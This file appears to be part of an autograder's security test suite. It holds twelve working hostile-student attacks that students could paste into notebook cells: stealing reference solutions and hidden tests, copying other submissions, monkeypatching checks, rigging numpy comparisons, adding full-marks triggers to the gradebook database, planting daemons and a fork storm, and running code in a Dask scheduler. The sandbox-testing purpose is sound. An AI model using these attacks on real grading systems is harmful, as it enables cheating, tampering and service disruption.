"""The adversarial half of the sample class: code a hostile student puts in a solution cell.

Each attack is a function here whose *source* is pasted into the notebook (the
kernel may not import ``autograder``), followed by one call. An attack tries
hard (several paths to every target: ``sys.path``, environment variables,
``/proc`` of its ancestors, ``..`` from its working folder) and prints one line
per attempt, ``ATTACK <name>: SUCCEEDED ...`` or ``ATTACK <name>: BLOCKED ...``.
The tests never trust those lines: they check what an attack leaves behind
(points, files, gradebook rows, processes, connections, printed secrets).

Safety: an attack writes only inside a folder that holds a :data:`RANGE_FILE`
(the scratch course of ``make demo`` and of the tests), never in a real
course or in the repository, even when it runs unsandboxed. Processes it
starts carry :data:`PROCESS_TOKEN` in their command line so that a test finds
(and ends) any that outlived grading.
"""
# ruff: noqa: S102, S110, S112 - hostile student code: it execs what it steals and tries every way in silence
from __future__ import annotations

import inspect
from collections.abc import Callable
from dataclasses import dataclass

RANGE_FILE = "ATTACK_RANGE"  # a folder holding this file may be damaged by the sample class
PROCESS_TOKEN = "autograder-sample-attack"  # in the command line of every process an attack starts
MARKER_PREFIX = "ATTACK-"  # files an attack writes as evidence: ATTACK-<student>-<what>
GRADEBOOK_MARK = "attack_marker"  # table an attack creates in every gradebook it can open
SLEEP_SECONDS = 20  # the background writer's delay, well past the end of its grading


# --- helpers pasted before every attack ------------------------------------------------------

def _say(name, ok, detail):
    print(f"ATTACK {name}: {'SUCCEEDED' if ok else 'BLOCKED'} - {detail}")


def _ancestors():
    """This process and its ancestors' pids, from /proc."""
    import os

    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/status") as status:
                pid = int(next(line.split()[1] for line in status if line.startswith("PPid:")))
        except (OSError, StopIteration, ValueError):
            break
    return pids


def _course_roots():
    """Every folder that looks like a course or the grader's repository, found every way we can."""
    import os
    import sys

    seen = [p for p in sys.path if p] + os.environ.get("PYTHONPATH", "").split(os.pathsep)
    seen += [v for value in os.environ.values() for v in value.split(os.pathsep) if v.startswith("/")]
    here = os.getcwd()
    seen += [here, os.path.join(here, ".."), os.path.join(here, "..", ".."), os.path.join(here, "..", "..", "..")]
    for pid in _ancestors():
        try:
            seen.append(os.readlink(f"/proc/{pid}/cwd"))
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                seen += [a for a in cmdline.read().decode(errors="replace").split("\0") if a.startswith("/")]
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("/"):
                    seen.append(target)
        except OSError:
            continue
    roots = []
    for path in seen:
        path = os.path.abspath(path)
        while True:
            if os.path.isdir(path) and path not in roots and any(
                    os.path.exists(os.path.join(path, mark)) for mark in ("autograder", "source", "submitted")):
                roots.append(path)
            parent = os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return roots


def _in_range(path):
    """True inside a folder marked as a target range (never a real course)."""
    import os

    path = os.path.abspath(path)
    while True:
        if os.path.exists(os.path.join(path, RANGE_FILE)):
            return True
        parent = os.path.dirname(path)
        if parent == path:
            return False
        path = parent


def _files(patterns):
    import glob
    import os

    found = []
    for root in _course_roots():
        for pattern in patterns:
            found += [p for p in glob.glob(os.path.join(root, pattern), recursive=True) if p not in found]
    return found


def _solution_source(path, grade_id):
    """The source of the cell ``grade_id`` of a notebook file, solution markers removed."""
    import json

    with open(path) as file:
        cells = json.load(file)["cells"]
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            text = "".join(cell["source"])
            return "\n".join(line for line in text.splitlines() if "### BEGIN SOLUTION" not in line
                             and "### END SOLUTION" not in line)
    return None


HELPERS = [_say, _ancestors, _course_roots, _in_range, _files, _solution_source]


# --- the attacks --------------------------------------------------------------------------------

def import_reference(ns, target, assignment, me):
    """Take ``target`` from the instructor's reference: by module name, then by file."""
    import importlib
    import importlib.util
    import os
    import sys

    names = [f"autograder.assignments.{assignment}.reference", "autograder.reference"]
    for root in [None] + _course_roots():
        if root and root not in sys.path:
            sys.path.insert(0, root)
        for name in names:
            try:
                module = importlib.import_module(name)
                ns[target] = getattr(module, target)
                return _say("import_reference", True, f"{target} from {name} ({getattr(module, '__file__', '')})")
            except Exception:  # noqa: BLE001 - try the next way
                continue
    for path in _files([f"autograder/assignments/{assignment}/reference.py", "autograder/reference/*.py"]):
        try:
            spec = importlib.util.spec_from_file_location(f"stolen_{os.path.basename(path)[:-3]}", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            ns[target] = getattr(module, target)
            return _say("import_reference", True, f"{target} executed from {path}")
        except Exception:  # noqa: BLE001
            continue
    _say("import_reference", False, f"no reference module or file reachable for {target}")


def read_solution_and_hidden_tests(ns, target, assignment, me):
    """Run the instructor's solution cell read from source/, and print a digest of every hidden test file."""
    import hashlib

    for path in _files([f"source/{assignment}/*.ipynb", "source/*/*.ipynb"]):
        try:
            code = _solution_source(path, target)
            if code and "NotImplementedError" not in code:
                exec(code, ns)
                _say("read_solution", True, f"{target} from {path}")
                break
        except Exception:  # noqa: BLE001
            continue
    else:
        _say("read_solution", False, "no solution notebook readable")
    read = 0
    for path in _files(["autograder/hidden/*.py", "autograder/assignments/*/hidden.py",
                        "autograder/assignments/*/reference.py", "autograder/reference/*.py"]):
        try:
            with open(path, "rb") as file:
                _say("read_hidden", True, f"read {path} sha256={hashlib.sha256(file.read()).hexdigest()}")
                read += 1
        except OSError:
            continue
    if not read:
        _say("read_hidden", False, "no hidden test file readable")


def copy_other_student(ns, target, assignment, me):
    """Run another student's working ``target`` cell, read from submitted/ or autograded/."""
    import os

    for path in _files([f"submitted/*/{assignment}/*.ipynb", f"autograded/*/{assignment}/*.ipynb"]):
        if f"{os.sep}{me}{os.sep}" in path:
            continue
        try:
            code = _solution_source(path, target)
            if code and "NotImplementedError" not in code:
                exec(code, ns)
                return _say("copy_other_student", True, f"{target} from {path}")
        except Exception:  # noqa: BLE001
            continue
    _say("copy_other_student", False, "no other submission readable")


def monkeypatch_checks(ns, target, assignment, me):
    """Make every visible check, hidden check, recorder, numpy comparison and gradcheck helper pass."""
    import importlib
    import pkgutil
    import sys

    import numpy as np
    import numpy.testing

    def passes(*args, **kwargs):
        return None

    for package in ("course.checks", "autograder.hidden", f"autograder.assignments.{assignment}"):
        try:
            imported = importlib.import_module(package)
            for info in pkgutil.iter_modules(getattr(imported, "__path__", [])):
                importlib.import_module(f"{package}.{info.name}")
        except Exception:  # noqa: BLE001
            continue
    for name in ("course.recorder", "course.gradcheck", "autograder.verdicts"):
        try:
            importlib.import_module(name)
        except Exception:  # noqa: BLE001
            continue
    patched = []
    for name, module in list(sys.modules.items()):
        if module is None or not name.startswith(("course.checks", "autograder.hidden", "autograder.assignments",
                                                  "course.recorder", "course.gradcheck", "autograder.verdicts")):
            continue
        for attr in dir(module):
            if attr.startswith(("check", "assert", "record", "judge", "report_all", "call_")) and \
                    callable(getattr(module, attr)) and not isinstance(getattr(module, attr), type):
                setattr(module, attr, passes)
                patched.append(f"{name}.{attr}")
        if hasattr(module, "rel_error"):
            module.rel_error = lambda *args, **kwargs: 0.0
        if hasattr(module, "diagnose"):
            module.diagnose = lambda *args, **kwargs: None
    for attr in dir(numpy.testing):
        if attr.startswith("assert"):
            setattr(numpy.testing, attr, passes)
    np.allclose = np.array_equal = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
    _say("monkeypatch", bool(patched), f"{len(patched)} check functions replaced, numpy comparisons always true")


def rigged_arrays(ns, target, assignment, me):
    """``target`` returns arrays that say they equal anything, shaped like the stub's return statement."""
    import ast

    import numpy as np

    class Rigged(np.ndarray):
        def __new__(cls, shape=()):
            return np.zeros(shape).view(cls)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return Rigged(np.broadcast(*[np.asarray(x) for x in inputs]).shape)

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__

        def __bool__(self):
            return True

        def __float__(self):
            return 0.0

        def __getitem__(self, key):
            return self

        def __len__(self):
            return 1

    count = 1
    try:
        stub = ast.parse(ns.get("_stub_source", ""))
        returns = [n for n in ast.walk(stub) if isinstance(n, ast.Return) and isinstance(n.value, ast.Tuple)]
        count = len(returns[-1].value.elts) if returns else 1
    except SyntaxError:
        pass

    def rigged(*args, **kwargs):
        shape = np.shape(args[0]) if args and isinstance(args[0], np.ndarray) else ()
        values = tuple(Rigged(shape) for _ in range(count))
        return values if count > 1 else values[0]

    ns[target] = rigged
    _say("rigged_arrays", True, f"{target} returns {count} rigged array(s)")


def write_gradebook(ns, target, assignment, me):
    """In every gradebook: a marker table, and triggers that raise this student's grades to full marks."""
    import sqlite3

    full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id)"
    mine = ("NEW.notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
            f"ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id = '{me}')")
    written = []
    for path in _files(["gradebook.db", ".autograder/*/*.db", ".autograder/*/*/*.db"]):
        if not _in_range(path):
            continue
        try:
            with sqlite3.connect(path, timeout=5) as db:
                db.execute(f"CREATE TABLE IF NOT EXISTS {GRADEBOOK_MARK} (student TEXT, path TEXT)")
                db.execute(f"INSERT INTO {GRADEBOOK_MARK} VALUES (?, ?)", (me, path))
                for event in ("INSERT", "UPDATE"):
                    db.execute(f"CREATE TRIGGER IF NOT EXISTS attack_full_marks_{event.lower()} AFTER {event} ON grade "
                               f"WHEN {mine} AND NEW.auto_score IS NOT NULL AND NEW.auto_score < {full} "
                               f"BEGIN UPDATE grade SET auto_score = {full} WHERE id = NEW.id; END")
            written.append(path)
        except Exception:  # noqa: BLE001
            continue
    _say("write_gradebook", bool(written), f"wrote {written}" if written else "no gradebook writable")


def overwrite_files(ns, target, assignment, me):
    """Mark other students' notebooks and append to the grader's own files."""
    import json
    import os

    changed = []
    for path in _files([f"submitted/*/{assignment}/*.ipynb", f"autograded/*/{assignment}/*.ipynb"]):
        if f"{os.sep}{me}{os.sep}" in path or not _in_range(path):
            continue
        try:
            with open(path) as file:
                nb = json.load(file)
            nb["metadata"]["attacked_by"] = me
            with open(path, "w") as file:
                json.dump(nb, file)
            changed.append(path)
        except Exception:  # noqa: BLE001
            continue
    for path in _files(["autograder/**/*.py", "nbgrader_config.py", "source/*/*.ipynb"]):
        if not _in_range(path):
            continue
        try:
            with open(path, "a") as file:
                file.write("\n# ATTACK: overwritten by a student\n" if path.endswith(".py") else " ")
            changed.append(path)
        except OSError:
            continue
    _say("overwrite_files", bool(changed), f"{len(changed)} files changed" if changed else "nothing writable")


def _detach(argv):
    """Start ``argv`` as a daemon: double fork, new session, the middle process gone at once,
    so the new process is nobody's child by the time anyone looks. Returns the middle pid."""
    import os

    middle = os.fork()
    if middle == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(argv[0], argv)
        finally:
            os._exit(0)
    os.waitpid(middle, 0)
    return middle


def background_writer(ns, target, assignment, me):
    """A daemon that sleeps past the end of grading, then writes a marker in every course it finds."""
    import sys

    roots = [r for r in _course_roots() if _in_range(r)]
    code = ("import os, sys, time\ntime.sleep(float(sys.argv[1]))\nfor root in sys.argv[3:-1]:\n"
            "    try:\n        open(os.path.join(root, sys.argv[2]), 'w').write('late')\n"
            "    except OSError:\n        pass\n")
    try:
        _detach([sys.executable, "-c", code, str(SLEEP_SECONDS), f"{MARKER_PREFIX}{me}-sleeper", *roots,
                 PROCESS_TOKEN])
        _say("background_writer", True, f"a daemon writes into {roots} in {SLEEP_SECONDS} s")
    except OSError as err:
        _say("background_writer", False, f"{type(err).__name__}: {err}")


def _tcp_sockets():
    """{inode: (local (host, port), remote (host, port), state)} of the IPv4 TCP sockets in /proc/net/tcp."""
    import socket
    import struct

    def address(text):
        host, port = text.split(":")
        return socket.inet_ntoa(struct.pack("<I", int(host, 16))), int(port, 16)

    sockets = {}
    try:
        with open("/proc/net/tcp") as table:
            for line in list(table)[1:]:
                parts = line.split()
                sockets[parts[9]] = (address(parts[1]), address(parts[2]), parts[3])
    except OSError:
        pass
    return sockets


def connect_services(ns, target, assignment, me):
    """Reach PostgreSQL on loopback, and the Dask scheduler our worker talks to (and run code in it)."""
    import os
    import socket
    import threading
    import time

    for port in sorted({5432, int(os.environ.get("PGPORT") or 5432)}):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2):
                _say("postgresql", True, f"connected to 127.0.0.1:{port}")
        except OSError as err:
            _say("postgresql", False, f"127.0.0.1:{port}: {type(err).__name__}")
    sockets = _tcp_sockets()
    listening, talking = [], []
    for pid in _ancestors()[1:]:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
                if link.startswith("socket:[") and link[8:-1] in sockets:
                    local, remote, state = sockets[link[8:-1]]
                    if state == "0A" and local not in listening:  # the coordinator's scheduler listens
                        listening.append(local)
                    elif state == "01" and remote not in talking:  # a worker's connection to it
                        talking.append(remote)
        except OSError:
            continue
    roots = [r for r in _course_roots() if _in_range(r)]

    def plant(roots=roots, me=me, prefix=MARKER_PREFIX):
        for root in roots:
            with open(os.path.join(root, f"{prefix}{me}-dask"), "w") as file:
                file.write("ran in the scheduler")
        return os.getpid()

    ran = []

    def try_scheduler(address):
        try:
            from distributed import Client

            with Client(address, timeout=3) as client:
                ran.append((address, client.run_on_scheduler(plant)))
        except Exception:  # noqa: BLE001
            pass

    deadline = time.monotonic() + 15
    for host, port in listening + talking:
        if ran or time.monotonic() > deadline:
            break
        attempt = threading.Thread(target=try_scheduler, args=(f"tcp://127.0.0.1:{port}",), daemon=True)
        attempt.start()
        attempt.join(5)
    _say("dask", bool(ran), f"ran code in the scheduler: {ran}" if ran else
         f"no Dask scheduler reachable (tried {listening + talking})")


def fork_storm(ns, target, assignment, me):
    """64 daemons (never more) that sleep well past the end of grading (a test ends them)."""
    import sys

    started, failure = 0, ""
    for _ in range(64):
        try:
            _detach([sys.executable, "-c", f"import time; time.sleep({15 * SLEEP_SECONDS})", f"{MARKER_PREFIX}{me}",
                     PROCESS_TOKEN])
        except OSError as err:
            failure = f"; stopped by {type(err).__name__}: {err}"
            break
        started += 1
    _say("fork_storm", started == 64, f"{started} processes started{failure}")


def exit_kernel(ns, target, assignment, me):
    """``target`` ends the kernel with a clean exit status the moment a check calls it."""
    def exits(*args, **kwargs):
        import os

        print("ATTACK exit: leaving with status 0 inside a check", flush=True)
        os._exit(0)

    ns[target] = exits


def print_reference_encoded(ns, target, assignment, me):
    """Print the reference's source base64-encoded: read from disk now, and later, when a check calls
    ``target``, whatever reference module the callers' frames hold, and the inputs it was given."""
    import base64
    import inspect
    import sys

    printed = 0
    for path in _files([f"autograder/assignments/{assignment}/reference.py", "autograder/reference/*.py"]):
        try:
            with open(path, "rb") as file:
                print(f"ATTACK base64 {path}: {base64.b64encode(file.read()).decode()}")
                printed += 1
        except OSError:
            continue
    _say("base64_disk", bool(printed), f"{printed} reference files printed")

    import_reference(ns, target, assignment, me)  # passing the visible check lets the hidden one call us
    stolen = ns.get(target)

    def spy(*args, **kwargs):
        print(f"ATTACK base64 args: {base64.b64encode(repr(args).encode()[:3000]).decode()}")  # the hidden inputs
        frame, shown = sys._getframe(1), 0
        while frame is not None:
            for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
                name = getattr(value, "__name__", "")
                if inspect.ismodule(value) and "reference" in name:
                    try:
                        source = inspect.getsource(value).encode()
                        print(f"ATTACK base64 frame {name}: {base64.b64encode(source).decode()}")
                        shown += 1
                    except (OSError, TypeError):
                        pass
            frame = frame.f_back
        _say("base64_frames", bool(shown), f"{shown} reference modules seen from the caller's frames")
        if stolen is None:
            raise NotImplementedError()
        return stolen(*args, **kwargs)

    ns[target] = spy


@dataclass(frozen=True)
class Attack:
    student: str
    about: str
    run: Callable
    extra: tuple = ()  # helpers this attack needs beyond HELPERS


ATTACKS = [
    Attack("a01_import_reference", "imports the instructor's reference for its last function", import_reference),
    Attack("a02_read_solution", "runs the solution read from source/ and reads the hidden tests",
           read_solution_and_hidden_tests),
    Attack("a03_copy_other", "runs another student's submitted function", copy_other_student),
    Attack("a04_monkeypatch", "replaces the visible and hidden checks, numpy's comparisons and gradcheck",
           monkeypatch_checks),
    Attack("a05_rigged_arrays", "returns arrays whose comparisons always succeed", rigged_arrays),
    Attack("a06_write_gradebook", "writes the gradebooks: a marker and full-marks triggers", write_gradebook),
    Attack("a07_overwrite_files", "overwrites other submissions and the grader's files", overwrite_files),
    Attack("a08_background_writer", "a daemon process that writes after grading", background_writer, (_detach,)),
    Attack("a09_connect_services", "connects to the Dask scheduler and PostgreSQL on loopback", connect_services,
           (_tcp_sockets,)),
    Attack("a10_fork_storm", "starts 64 daemon processes", fork_storm, (_detach,)),
    Attack("a11_exit", "its last function calls os._exit(0) when checked", exit_kernel),
    Attack("a12_base64_reference", "prints the reference's source base64-encoded", print_reference_encoded,
           (import_reference,)),
]
BY_STUDENT = {attack.student: attack for attack in ATTACKS}


def cell_source(student: str, stub: str, target: str, assignment: str) -> str:
    """The solution cell of ``target`` as the attacking ``student`` hands it in: the unfinished
    stub, then the attack, which may replace ``target``."""
    attack = BY_STUDENT[student]
    parts = [stub.rstrip("\n"), f"_stub_source = {stub!r}", "\n".join(f"{name} = {value!r}" for name, value in (
        ("RANGE_FILE", RANGE_FILE), ("PROCESS_TOKEN", PROCESS_TOKEN), ("MARKER_PREFIX", MARKER_PREFIX),
        ("GRADEBOOK_MARK", GRADEBOOK_MARK), ("SLEEP_SECONDS", SLEEP_SECONDS)))]
    parts += [inspect.getsource(helper) for helper in HELPERS + list(attack.extra) + [attack.run]]
    parts.append(f"{attack.run.__name__}(globals(), {target!r}, {assignment!r}, {student!r})")
    return "\n\n".join(parts) + "\n"
